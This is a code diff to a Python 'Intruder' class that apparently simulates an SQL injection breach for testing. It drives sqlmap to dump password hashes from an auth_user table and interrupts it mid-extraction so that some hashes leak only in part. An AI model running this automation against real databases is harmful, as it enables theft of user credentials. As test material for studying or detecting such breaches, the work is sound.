@@ -289,9 +289,11 @@ class Intruder:
         with self._moment("2b one more hash, broken off"):
             self._sqlmap(
                 "hash-broken-off", "B", "auth_user", choices.hash_columns, "--start", str(last + 1), "--stop", str(last + 1),
-                stop_after=430 if choices.hash_columns.startswith("id") else 620,
+                stop_after=330 if choices.hash_columns.startswith("id") else 450,
             )
             self._take_partial("2b", self.workshop / "hash-broken-off")
+            if not any(row.certainty == "partial" for row in self.received.rows):
+                print("  2b: sqlmap finished the hash that was to stay unfinished", flush=True)
 
     def _sqlmap(self, name: str, technique: str, table: str, columns: str, *options: str, stop_after: int = 0) -> list[dict]:
         """Runs sqlmap and returns the rows of its own dump file. With stop_after, interrupts it after so many requests."""
@@ -307,13 +309,16 @@ class Intruder:
                 command, stdin=subprocess.DEVNULL, stdout=out, stderr=out, env=os.environ | {"HOME": str(self.workshop)}
             )
             deadline = time.monotonic() + 300
+            interrupted = 0.0
             while process.poll() is None:
                 if time.monotonic() > deadline:
                     process.kill()
                     raise TimeoutError(f"sqlmap {name} did not end")
-                if stop_after and traffic.exists() and traffic.read_bytes().count(b"HTTP request [") >= stop_after:
-                    process.send_signal(signal.SIGINT)
-                    stop_after = 0
+                # A signal that comes between two requests can be taken for a lost connection: then once more.
+                if stop_after and time.monotonic() - interrupted > 2 and traffic.exists():
+                    if traffic.read_bytes().count(b"HTTP request [") >= stop_after:
+                        process.send_signal(signal.SIGINT)
+                        interrupted = time.monotonic()
                 time.sleep(0.05)
         dumps = list(output.glob(f"*/dump/public/{table}.csv"))
         if not dumps:
@@ -388,7 +393,7 @@ class Intruder:
             everything = connection.execute(choices.ranked.replace("LIMIT {limit}", ""))
             position = [column.name for column in everything.description].index(choices.ranked_by)
             ranks = [row[position] for row in everything.fetchall()]
-        limit = next(n for n in range(choices.ranked_near, len(ranks)) if n >= 2 and ranks[n - 2] == ranks[n - 1] == ranks[n])
+        limit = next(n for n in range(choices.ranked_near, len(ranks) - 4) if ranks[n - 4] == ranks[n + 3])
         target.write_text(self._psql(choices.ranked.format(limit=limit), "--csv"))
         rows = self._csv(target)
         edge = rows[-1][choices.ranked_by]
